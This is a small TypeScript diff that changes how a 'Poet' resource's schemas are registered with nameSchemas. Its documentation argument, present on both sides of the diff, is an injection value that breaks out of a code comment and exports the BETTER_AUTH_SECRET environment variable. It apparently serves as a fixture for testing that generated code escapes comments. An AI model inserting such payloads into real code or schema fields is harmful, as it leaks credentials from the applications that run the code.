@@ -30,14 +30,11 @@ export const list = listQuery({
   page: { size: 20, max: 100 },
 });
 
-nameSchemas({
-  name: "Poet",
-  doc: "*/ export const leaked = `${process.env.BETTER_AUTH_SECRET}`; /*",
-  schemas: { resource, create, update },
-  examples: {
-    name: "Example",
-  },
-});
+nameSchemas(
+  "Poet",
+  { params, resource, create, update },
+  "*/ export const leaked = `${process.env.BETTER_AUTH_SECRET}`; /*",
+);
 
 export type Create = z.output<typeof create>;
 export type Update = z.output<typeof update>;
